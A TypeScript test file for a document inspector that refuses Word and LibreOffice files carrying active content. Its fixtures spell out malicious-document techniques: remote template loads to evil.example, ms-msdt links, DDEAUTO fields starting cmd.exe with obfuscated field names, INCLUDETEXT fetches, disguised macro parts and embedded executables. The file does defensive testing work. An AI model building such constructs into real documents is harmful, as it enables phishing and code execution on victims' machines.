import { downloadZip } from "client-zip";
import { expect, test } from "vitest";
import { createInspector } from "./inspect.server.ts";
import { KINDS, type Kind } from "./kinds.ts";

const inspect = createInspector();
const ALL_KINDS = Object.keys(KINDS) as Kind[];
const TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const RELATIONS = "word/_rels/document.xml.rels";

type Parts = Record<string, string | Uint8Array>;

/** A Word document: its parts, in place of or beside those that each has. */
async function wordDocument(parts: Parts = {}): Promise<Uint8Array> {
  const types = `<Types><Override PartName="/word/document.xml" ContentType="${TYPE}"/></Types>`;
  return zip({ "[Content_Types].xml": types, "word/document.xml": "<w:document/>", ...parts });
}

async function zip(parts: Parts): Promise<Uint8Array> {
  const files = Object.entries(parts).map(([name, input]) => ({ name, input, lastModified: new Date(0) }));
  return new Uint8Array(await downloadZip(files).arrayBuffer());
}

const textDocument = (content: string, parts: Parts = {}) =>
  zip({ mimetype: "application/vnd.oasis.opendocument.text", "content.xml": content, ...parts });

const inspectContent = (content: Uint8Array) =>
  inspect(async () => new Blob([content as BlobPart]).stream() as ReadableStream<Uint8Array>, ALL_KINDS);

const relation = (type: string, target: string, mode = "External") =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const field = (...pieces: string[]) =>
  `<w:document>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join("")}</w:document>`;
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");

const ACTIVE: [what: string, parts: Parts][] = [
  ["loads a template from elsewhere", { [RELATIONS]: relation("attachedTemplate", "https://evil.example/t.dotm") }],
  ["loads one from a share", { [RELATIONS]: relation("attachedTemplate", "\\\\evil.example\\t.dotm") }],
  ["loads one from a share by its address", { [RELATIONS]: relation("attachedTemplate", "file://evil.example/t") }],
  ["says so in UTF-16", { [RELATIONS]: utf16(relation("attachedTemplate", "https://evil.example/t.dotm")) }],
  ["spells the address in codes", { [RELATIONS]: relation("frame", "&#x68;&#116;tps://evil.example/") }],
  [
    "loads an object",
    { [RELATIONS]: relation("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/") },
  ],
  ["loads a picture, which tells who reads it", { [RELATIONS]: relation("image", "https://evil.example/i.png") }],
  ["starts a tool of the system at a press", { [RELATIONS]: relation("hyperlink", "ms-msdt:/id PCWDiagnostic") }],
  ["starts a program by a field", { "word/document.xml": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe") }],
  ["cuts the name of the field", { "word/header1.xml": field("DD", "EAUTO", ' "cmd"') }],
  ["hides the name in a comment", { "word/document.xml": field("DD<!-- x -->E cmd") }],
  ["hides the name in a CDATA section", { "word/document.xml": field("D<![CDATA[DE]]> cmd") }],
  ["writes the field in one element", { "word/document.xml": '<w:fldSimple w:instr="DDE cmd"/>' }],
  ["makes a field of numbers", { "word/document.xml": field("QUOTE 68 68 69") }],
  ["reads a text from elsewhere", { "word/document.xml": field('INCLUDETEXT "https://evil.example/x"') }],
  ["has a part that holds macros", { "word/vbaProject.bin": "x" }],
  [
    "has macros under another name",
    {
      "[Content_Types].xml": `<Types><Override PartName="/word/document.xml" ContentType="${TYPE}"/><Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
      "word/data.bin": "x",
    },
  ],
  ["carries an object of another program", { "word/embeddings/oleObject1.bin": "x" }],
  ["carries a program", { "word/media/x.exe": "MZ" }],
  ["declares entities", { "word/document.xml": '<!DOCTYPE x [<!ENTITY e "DDE">]><w:document/>' }],
];

test.each(ACTIVE)("a Word document that %s is refused", async (_what, parts) => {
  expect(await inspectContent(await wordDocument(parts))).toEqual({ ok: false, reason: "active" });
});

test("a Word document within another one is examined too", async () => {
  const inner = await wordDocument({ "word/vbaProject.bin": "x" });
  const outer = (embedded: Uint8Array) => wordDocument({ "word/embeddings/Document.docx": embedded });
  expect(await inspectContent(await outer(inner))).toEqual({ ok: false, reason: "active" });
  expect(await inspectContent(await outer(await wordDocument()))).toMatchObject({ ok: true });
});

test.each([
  ["loads a picture", '<draw:image xlink:href="https://evil.example/i.png"/>', {}],
  ["loads an object", '<draw:object xlink:href="https://evil.example/o"/>', {}],
  ["asks another program for data", '<office:dde-source office:dde-application="cmd"/>', {}],
  ["listens to events", '<script:event-listener script:event-name="dom:load"/>', {}],
  ["has macros", "<office:text/>", { "Basic/Standard/Module1.xml": "x" }],
  ["has scripts", "<office:text/>", { "Scripts/python/x.py": "x" }],
])("a LibreOffice text that %s is refused", async (_what, content, parts) => {
  expect(await inspectContent(await textDocument(content, parts as Parts))).toEqual({ ok: false, reason: "active" });
});

test("what people's own documents have is accepted", async () => {
  const parts: Parts[] = [
    { [RELATIONS]: relation("attachedTemplate", "file:///C:\\Users\\Camille\\Normal.dotm") },
    { [RELATIONS]: relation("hyperlink", "https://banque.example/reclamation") },
    { [RELATIONS]: relation("hyperlink", "mailto:camille@exemple.fr") },
    { [RELATIONS]: relation("image", "media/image1.png", "Internal"), "word/media/image1.png": "x" },
    { "word/document.xml": field("PAGE", ' TOC \\o "1-3"', ' HYPERLINK "https://banque.example" ') },
    { "word/document.xml": "<w:t>La DDE et le format DDEAUTO</w:t>" },
    { "word/printerSettings/printerSettings1.bin": "x", "word/media/image1.svg": "x" },
  ];
  for (const part of parts)
    expect(await inspectContent(await wordDocument(part)), JSON.stringify(part)).toMatchObject({ ok: true });
  const text = '<text:a xlink:href="https://banque.example">Banque</text:a><draw:image xlink:href="Pictures/1.png"/>';
  expect(await inspectContent(await textDocument(text, { "Pictures/1.png": "x" }))).toMatchObject({ ok: true });
});
